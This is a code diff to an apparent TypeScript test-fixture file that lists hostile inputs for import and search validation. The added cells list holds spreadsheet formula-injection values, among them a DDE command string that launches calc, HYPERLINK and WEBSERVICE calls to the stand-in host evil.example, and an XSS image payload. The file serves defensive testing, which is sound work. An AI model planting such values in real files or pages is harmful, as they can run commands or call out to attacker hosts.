@@ -1,4 +1,4 @@
-/** quality.md, section 7 "Import": files that are not what they say. */
+/** quality.md, section 7: files that are not what they say, and texts that stand for more than themselves elsewhere. */
 import { digestOf } from '../e2e/support/seed.ts';
 import { estateFile } from './estates.ts';
 
@@ -52,4 +52,45 @@ export const csvs: [name: string, text: string][] = [
   ['a region that is none', 'region,workspace,key_type\nmoon,EMEA,production\n'],
   ['a million rows', `region,workspace,key_type\n${'us,EMEA,production\n'.repeat(1_000_000)}`],
   ['a NUL in the type', 'region,workspace,key_type\nus,EMEA,production\u0000\n'],
+];
+
+/** What a spreadsheet takes for a formula, a separator or the end of a cell. */
+export const cells: readonly string[] = [
+  '=1+1',
+  '+49 30 1234',
+  '-1',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '＝1',
+  '＋1',
+  '－1',
+  '＠x',
+  ' =1+1',
+  '"=1+1"',
+  "'=1+1",
+  'a;=1+1',
+  'a,=1+1',
+  'a\t=1+1',
+  'a\r\n=1+1',
+  'say "x", and\nmore',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example","x")',
+  '=WEBSERVICE("http://evil.example")',
+  '<img src=x onerror=alert(1)>',
+];
+
+/** Searches, and whether one finds something in the sample organization. */
+export const searches: readonly [name: string, text: string, found: boolean][] = [
+  ['signs of patterns', '.*[a-z]+(?=x)\\', false],
+  ['a bracket alone', '(', false],
+  ['a megabyte', 'x'.repeat(1_000_000), false],
+  ['a megabyte of words', 'emea '.repeat(200_000), false],
+  ['combining marks', 'e\u0301mea', false],
+  ['composed and decomposed alike', 'EMEA Sales'.normalize('NFD'), true],
+  ['a Turkish i', 'EMEA SALES\u0130', false],
+  ['marks of direction', '\u202EEMEA\u202C', false],
+  ['a prototype', '__proto__ constructor', false],
+  ['NUL', 'EMEA\u0000', false],
 ];
